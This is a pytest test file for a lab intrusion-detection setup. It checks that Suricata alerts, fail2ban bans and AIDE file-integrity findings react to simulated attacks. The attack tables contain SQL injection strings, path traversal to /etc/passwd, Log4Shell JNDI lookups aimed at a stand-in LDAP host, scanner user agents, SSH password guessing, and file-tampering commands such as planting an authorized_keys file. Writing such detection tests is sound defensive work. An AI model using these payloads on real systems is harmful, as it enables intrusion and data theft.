"""Attacks on an edge and on its files: which are seen, who is shut out, and who is not."""

import itertools
import json
import subprocess
import time
from contextlib import contextmanager
from functools import partial

import pytest

import lab
from lab import inside as run
from lab import wait_until

converge = partial(lab.converge, "intrusion_detection", "--skip-tags=haproxy")
EDGE, WEB, CLIENT = "intrusion-edge", "intrusion-web", "intrusion-client"
SITE, ADDRESS = "www.example.com", "172.30.66.11"
ADMINISTRATOR = "172.30.66.200"
ON_EDGE, ON_WEB = (f"--limit={host}" for host in (EDGE, WEB))
EVE = "/var/log/suricata/eve.json"

_addresses = (f"172.30.66.{last}" for last in itertools.count(31))


@pytest.fixture
def visitor():
    return next(_addresses)


@pytest.fixture
def attacker():
    return next(_addresses)


def applied(*arguments, **variables):
    done = converge(*arguments, **variables)
    assert done.returncode == 0, done.stdout
    return done.stdout


def ask(client, path="/", *options, scheme="https", times=1):
    """Send a request from an address, several times or for a range of paths: [1-9]. Returns the statuses of the answers."""
    port = {"http": 80, "https": 443}[scheme]
    done = subprocess.run(
        [
            *(
                "docker",
                "exec",
                CLIENT,
                "curl",
                "--silent",
                "--insecure",
                "--interface",
                client,
                "--connect-timeout",
                "2",
            ),
            *("--path-as-is", "--no-progress-meter", "--write-out", "%{http_code}\n"),
            *("--resolve", f"{SITE}:{port}:{ADDRESS}", *options),
            *("--output", "/dev/null", f"{scheme}://{SITE}{path}") * times,
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    return [int(status) for status in done.stdout.split()]


def alerts():
    return [json.loads(line) for line in run(EDGE, f"cat {EVE}").splitlines() if '"event_type":"alert"' in line]


def seen(client):
    """The alerts about a client: (sid, interface)."""
    return {
        (event["alert"]["signature_id"], event["in_iface"])
        for event in alerts()
        if client in (event["alert"].get("xff"), event["src_ip"])
    }


def banned(client):
    """The jails that have banned an address."""
    found = json.loads(run(EDGE, "fail2ban-client banned").replace("'", '"'))
    return {jail for entry in found for jail, addresses in entry.items() if client in addresses}


def shut_out(client):
    return ask(client, "/") == [0] and not reachable(client, 22)


def reachable(client, port):
    connect = f"import socket; socket.create_connection(('{ADDRESS}', {port}), 2, ('{client}', 0))"
    return (
        subprocess.run(
            ["docker", "exec", CLIENT, "python3", "-c", connect], capture_output=True, check=False
        ).returncode
        == 0
    )


def settled():
    """Give Suricata and fail2ban the time that they take to act, before saying that they did not."""
    time.sleep(3)


def process():
    return run(EDGE, "systemctl show --property MainPID --value suricata")


SQL = "/?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--"
ATTACKS = {
    "sqlmap": (1721001, "/", "--user-agent", "sqlmap/1.8#stable (https://sqlmap.org)"),
    "nikto": (1721001, "/", "--user-agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
    "nmap": (1721001, "/", "--user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"),
    "UNION SELECT": (1721002, SQL),
    "UNION SELECT, with comments and capitals": (1721002, "/?id=1/**/uNiOn/**/aLL%20sElEcT+1,2"),
    "UNION SELECT, encoded twice": (1721002, "/?id=1%2527%2520union%2520select%25201"),
    "always true": (1721002, "/?user=admin%27%20OR%20%271%27=%271"),
    "time": (1721002, "/?id=1%20AND%20SLEEP(5)"),
    "login form": (1721003, "/login", "--data", "user=admin'+or+'1'%3D'1&password=x"),
    "dropped table": (1721003, "/assets/1", "--data", "name=x');DROP+TABLE+visitors;--"),
    "path traversal": (1721004, "/assets/1?file=../../../../etc/passwd"),
    "path traversal, encoded": (1721004, "/assets/1?file=%2e%2e/%2e%2e%2f%2e%2e%2fhostname"),
    "JNDI in a header": (1721006, "/", "--header", "X-Api-Version: ${jndi:ldap://192.0.2.66/a}"),
    "JNDI in the address": (1721007, "/?q=%24%7Bjndi:ldap://192.0.2.66/a%7D"),
}
# What the load balancer refuses to pass on over https.
REFUSED = {
    "path traversal": (1721004, "/assets/../../../etc/hostname"),
    "path traversal, encoded": (1721004, "/assets/%2e%2e/%2e%2e%2fhostname"),
    ".env": (1721005, "/.env"),
    ".git": (1721005, "/.git/config"),
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_seen_whichever_server_gets_it(attacker, attack):
    sid, path, *options = attack
    assert len(ask(attacker, path, "--globoff", *options, times=2)) == 2
    wait_until(lambda: {(sid, "eth0"), (sid, "lo")} <= seen(attacker))


@pytest.mark.parametrize("attack", REFUSED.values(), ids=REFUSED)
def test_what_the_load_balancer_refuses_is_seen_on_http_and_counted_from_its_log_on_https(attacker, attack):
    sid, path = attack
    assert ask(attacker, path, scheme="http") == [403]
    wait_until(lambda: seen(attacker) == {(sid, "eth0")})
    assert ask(attacker, path, times=2) == [403] * 2
    wait_until(lambda: "webstack-scanner" in banned(attacker))


def test_a_visitor_raises_no_alarm_and_is_not_banned(visitor):
    for _ in range(2):
        assert ask(visitor) == [200]
        assert set(ask(visitor, "/assets/[1-40]?v=union-station&q=select+a+seat")) == {200}
        assert ask(visitor, "/favicon.ico") == [404]
        assert ask(visitor, "/login", "--data", "user=o'brien&password=or+not") == [401]
        assert ask(visitor, "/assets/1", "--data", "message=It's+me+or+you;+select+one+of+the+union's+tables") == [200]
        assert ask(visitor, scheme="http") == [301]
    settled()
    assert seen(visitor) == set()
    assert banned(visitor) == set()
    assert ask(visitor) == [200]


CAMPAIGNS = {
    "guesses passwords": ("webstack-login", lambda client: ask(client, "/login?[1-12]")),
    "tries doors": ("webstack-refused", lambda client: ask(client, "/door[1-35]")),
    "asks for what scanners ask for": ("webstack-scanner", lambda client: ask(client, "/wp-login.php?[1-4]")),
    "injects SQL": ("webstack-attack", lambda client: ask(client, SQL, times=6)),
    "injects SQL over http": ("webstack-attack", lambda client: ask(client, SQL, scheme="http", times=6)),
    "guesses names by ssh": ("sshd", lambda client: guess(client)),
}


def guess(client):
    options = "-o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null"
    run(
        CLIENT,
        f"for name in a b c d e f; do timeout 10 ssh {options} -o BindAddress={client} $name@{ADDRESS}; done",
        check=False,
    )


@pytest.mark.parametrize("campaign", CAMPAIGNS.values(), ids=CAMPAIGNS)
def test_an_attacker_is_shut_out_and_nobody_else_is(attacker, visitor, campaign):
    jail, attack = campaign
    assert not shut_out(attacker)
    attack(attacker)
    wait_until(lambda: jail in banned(attacker))
    wait_until(lambda: shut_out(attacker))  # fail2ban lists a ban before it has told the firewall
    assert ask(visitor) == [200]


def test_an_administrator_who_does_all_of_that_is_seen_and_never_shut_out():
    for _, attack in CAMPAIGNS.values():
        attack(ADMINISTRATOR)
    wait_until(lambda: (1721002, "lo") in seen(ADMINISTRATOR))
    settled()
    assert banned(ADMINISTRATOR) == set()
    assert ask(ADMINISTRATOR) == [200]


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_nobody_can_have_another_client_banned(attacker, visitor, scheme):
    ask(attacker, SQL, "--header", f"X-Forwarded-For: {visitor}", scheme=scheme, times=6)
    wait_until(lambda: "webstack-attack" in banned(attacker))
    assert banned(visitor) == set()
    assert ask(visitor) == [200]


def test_guessed_passwords_are_an_alert_too(attacker):
    ask(attacker, "/login?[1-60]")
    wait_until(lambda: 1721010 in {event["alert"]["signature_id"] for event in alerts()})


def test_a_port_scan_is_seen_and_many_connections_to_the_site_are_none(attacker, visitor):
    scan = "import socket; [socket.socket().connect_ex(('{}', port)) for port in range(3000, 3040)]"
    source = f"ip route add {ADDRESS} dev eth0 src"
    try:
        run(CLIENT, f'{source} {attacker}; python3 -c "{scan.format(ADDRESS)}"')
        run(CLIENT, f"ip route del {ADDRESS}")
        assert ask(visitor, "/", "--no-keepalive", "--header", "Connection: close", "--http1.1", times=30) == [200] * 30
    finally:
        run(CLIENT, f"ip route del {ADDRESS}", check=False)
    wait_until(lambda: (1721011, "eth0") in seen(attacker))
    assert seen(visitor) == set()


def test_bans_outlive_a_run_and_a_changed_setting(attacker):
    ask(attacker, "/wp-login.php?[1-4]")
    wait_until(lambda: banned(attacker))
    applied(ON_EDGE)
    assert shut_out(attacker)
    try:
        applied(ON_EDGE, intrusion_detection_ban_seconds=700)
        assert "webstack-scanner" in banned(attacker)
        assert shut_out(attacker)
    finally:
        applied(ON_EDGE)


def test_a_rule_of_the_users_is_taken_up_without_a_restart_and_a_broken_one_is_refused(attacker):
    before = process()
    rule = 'alert http any any -> any any (msg:"user"; flow:to_server; http.uri; content:"/assets/bait"; sid:1000001;)'
    try:
        applied(ON_EDGE, intrusion_detection_suricata_rules=rule)
        ask(attacker, "/assets/bait")
        wait_until(lambda: 1000001 in {sid for sid, _ in seen(attacker)})
        files = run(EDGE, "sha256sum /etc/suricata/*.yaml /etc/suricata/rules/*")

        refused = converge(
            ON_EDGE, intrusion_detection_suricata_rules=rule + "\nalert http any any -> any any (msg:x; nonsense;)"
        )
        assert refused.returncode == 2
        assert "refused the files, all are as they were" in refused.stdout
        assert "nonsense" in refused.stdout
        assert run(EDGE, "sha256sum /etc/suricata/*.yaml /etc/suricata/rules/*") == files
        ask(attacker, SQL)
        wait_until(lambda: 1721002 in {sid for sid, _ in seen(attacker)})
        assert process() == before
    finally:
        applied(ON_EDGE)


def test_alerts_go_on_when_their_file_is_rotated(attacker):
    run(EDGE, f"logrotate --force /etc/logrotate.d/suricata && test -s {EVE}.1")
    ask(attacker, SQL)
    wait_until(lambda: run(EDGE, f"test -s {EVE} && echo yes", check=False))
    assert seen(attacker)


def findings():
    """What the comparison of the files says. It ends with 1 when it says something."""
    done = subprocess.run(["docker", "exec", WEB, "file-integrity"], capture_output=True, text=True, check=False)
    assert done.returncode == (1 if done.stdout else 0), done.stderr
    return done.stdout.splitlines()


@contextmanager
def change(command, undo):
    run(WEB, command)
    try:
        yield
    finally:
        run(WEB, undo)


TAMPERING = {
    "a program": ("echo >> /usr/bin/who", "truncate --size=-1 /usr/bin/who", "/usr/bin/who: changed (sha256)"),
    "a setuid bit": ("chmod u+s /usr/bin/env", "chmod u-s /usr/bin/env", "/usr/bin/env: changed (perm)"),
    "an owner": ("chown 1000 /etc/fstab", "chown 0 /etc/fstab", "/etc/fstab: changed (uid)"),
    "a cron job": ("mkdir /etc/cron.d; echo >/etc/cron.d/x", "rm -r /etc/cron.d", "/etc/cron.d/x: added"),
    "a unit": (
        "echo >/etc/systemd/system/x.service",
        "rm /etc/systemd/system/x.service",
        "/etc/systemd/system/x.service: added",
    ),
    "a key": (
        "mkdir -p /home/x/.ssh; echo >/home/x/.ssh/authorized_keys",
        "rm -r /home/x",
        "/home/x/.ssh/authorized_keys: added",
    ),
    "a library": ("cp /lib/*/libz.so.1 /usr/lib/libzz.so", "rm /usr/lib/libzz.so", "/usr/lib/libzz.so: added"),
    "a file that is gone": ("mv /etc/issue /root/", "mv /root/issue /etc/", "/etc/issue: removed"),
    "a link": (
        "ln -sfn /bin/true /usr/bin/awk",
        "ln -sfn /etc/alternatives/awk /usr/bin/awk",
        "/usr/bin/awk: changed (lname)",
    ),
    "a quote in a name": ("touch '/etc/a \"b'", "rm '/etc/a \"b'", '/etc/a "b: added'),
}


def test_a_program_that_was_changed_before_the_first_run_is_found():
    """prepare.yml has changed it: the record must not begin with a blessing."""
    assert "/usr/bin/tac: differs from its package" in run(WEB, "journalctl --output=cat --unit=file-integrity")
    assert "UNEXPLAINED" in applied(ON_WEB)
    assert findings() == ["/usr/bin/tac: added"]
    run(WEB, "truncate --size=-1 /usr/bin/tac")
    assert "UNEXPLAINED" not in applied(ON_WEB)
    assert findings() == []


@pytest.mark.parametrize(("harm", "remedy", "finding"), TAMPERING.values(), ids=TAMPERING)
def test_a_changed_file_is_found(harm, remedy, finding):
    with change(harm, remedy):
        assert finding in findings()
    assert findings() == []


def test_the_daily_comparison_fails_and_says_why_in_the_journal():
    assert "file-integrity.timer" in run(WEB, "systemctl list-timers")
    with change("chmod g+w /etc/fstab", "chmod g-w /etc/fstab"):
        run(WEB, "systemctl start file-integrity", check=False)
        assert run(WEB, "systemctl is-failed file-integrity", check=False).strip() == "failed"
        said = run(WEB, "journalctl --output=cat --since=-1min --unit=file-integrity")
        assert "/etc/fstab: changed (perm)" in said.splitlines()
    run(WEB, "systemctl start file-integrity")


def test_a_run_that_waits_for_another_comparison_still_knows_its_changes():
    waiting = "chmod g+w /etc/fstab; flock /var/lib/aide/webstack.lock sleep 6 & sleep 0.5; file-integrity --within 5"
    with change("true", "chmod g-w /etc/fstab; file-integrity --accept"):
        assert run(WEB, waiting).strip() == "recorded"
    assert findings() == []


def test_a_run_records_its_own_changes_and_does_not_bless_those_of_others():
    with change("echo >> /usr/bin/who", "truncate --size=-1 /usr/bin/who"):
        try:
            report = applied(ON_WEB, intrusion_detection_aide_schedule="*-*-* 04:00:00")
            assert "/usr/bin/who: changed (sha256)" in report
            assert "file-integrity.timer" not in report.partition("UNEXPLAINED")[2]
            assert findings() == ["/usr/bin/who: changed (sha256)"]
            strict = converge(ON_WEB, intrusion_detection_aide_finding="fail")
            assert strict.returncode == 2
            assert findings() == ["/usr/bin/who: changed (sha256)"]
        finally:
            applied(ON_WEB)
    assert findings() == []


def test_what_a_package_brings_is_no_finding_and_what_only_looks_like_it_is():
    run(WEB, "apt-get -qq update; apt-get -qq install hello >/dev/null 2>&1")
    assert findings() == []
    with change("echo >> /usr/bin/hello; chmod u+s /usr/bin/hello", "rm /usr/bin/hello"):
        assert findings() == ["/usr/bin/hello: changed (perm, sha256)"]
    assert findings() == ["/usr/bin/hello: removed"]
    run(WEB, "apt-get -qq purge hello >/dev/null 2>&1")
    assert findings() == []


def test_an_administrator_accepts_a_change():
    with change("echo >/etc/mine.conf", "true"):
        assert findings() == ["/etc/mine.conf: added"]
        run(WEB, "file-integrity --accept")
        assert findings() == []
    run(WEB, "rm /etc/mine.conf; file-integrity --accept")


def test_a_host_that_cannot_audit_says_so():
    assert "does not let this host audit" in applied(ON_WEB)
    assert "key=identity" in run(WEB, "cat /etc/audit/rules.d/webstack.rules")


def test_what_cannot_work_is_refused_and_all_goes_on():
    refused = [
        (
            "never_banned",
            ["www.example.com"],
            "www.example.com is no address: write it as 192.0.2.11 or 203.0.113.0/28",
        ),
        ("never_banned", ["0.0.0.0/0"], "0.0.0.0/0 holds every address, and nobody would be banned"),
        ("proxies", ["172.30.66.0/24"], "is a network, whose every host could name a victim to ban"),
        ("home_networks", ["300.1.2.3"], "300.1.2.3"),
        ("http_ports", [0], "intrusion_detection_http_ports: 0 is no TCP port"),
        ("http_ports", [], "intrusion_detection_http_ports is empty"),
        ("ban_after", {"login": 0}, "intrusion_detection_ban_after: login is 0: at least 1"),
        ("ban_after", {"logins": 5}, "logins"),
        ("ban_seconds", 0, "intrusion_detection_ban_seconds is 0: 1 to 604800"),
        ("suricata_log_days", 0, "intrusion_detection_suricata_log_days is 0: at least 1"),
        ("fail2ban_config", "[mine]\nenabled = true\nfilter = nonsense", "nonsense"),
        ("aide_paths", ["etc"], "intrusion_detection_aide_paths: etc does not begin at the root"),
        ("aide_paths", ["/etc/("], "/etc/("),
        ("aide_schedule", "sometimes", "sometimes"),
        ("aide_finding", "ignore", "ignore"),
    ]
    refused = [({f"intrusion_detection_{name}": value}, said) for name, value, said in refused]
    files = "/etc/suricata/*.yaml /etc/suricata/rules/* /etc/fail2ban/*.d/webstack* /etc/aide/webstack.conf /etc/systemd/system/file*"
    before = run(EDGE, f"sha256sum {files}"), process(), run(EDGE, "fail2ban-client status")
    lab.assert_refused("intrusion_detection", refused, ON_EDGE)
    assert (run(EDGE, f"sha256sum {files}"), process(), run(EDGE, "fail2ban-client status")) == before
